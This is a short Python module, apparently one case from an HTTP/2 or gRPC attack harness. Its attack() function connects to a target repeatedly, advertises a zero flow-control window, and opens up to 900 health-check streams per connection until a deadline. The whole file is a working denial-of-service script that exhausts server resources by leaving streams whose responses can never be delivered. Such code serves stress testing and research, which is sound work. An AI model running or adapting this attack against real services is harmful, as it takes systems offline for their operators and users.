"""Streams whose answers nobody reads: health watches and checks with a window of nothing."""

import struct

from cases import SOURCE, going
from http2 import DATA, END_HEADERS, END_STREAM, HEADERS, HEALTH, PREFACE, SETTINGS, call_headers, connect, frame

SLICE = True


def attack(target, until):
    no_window = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    while going(until):
        try:
            one = connect(target, SOURCE, timeout=1.0)
            one.sendall(PREFACE + no_window)
            for i in range(900):
                one.sendall(frame(HEADERS, END_HEADERS, 2 * i + 1, call_headers(HEALTH)) +
                            frame(DATA, END_STREAM, 2 * i + 1, b"\0\0\0\0\0"))
                if not going(until):
                    break
            one.close()
        except OSError:
            pass
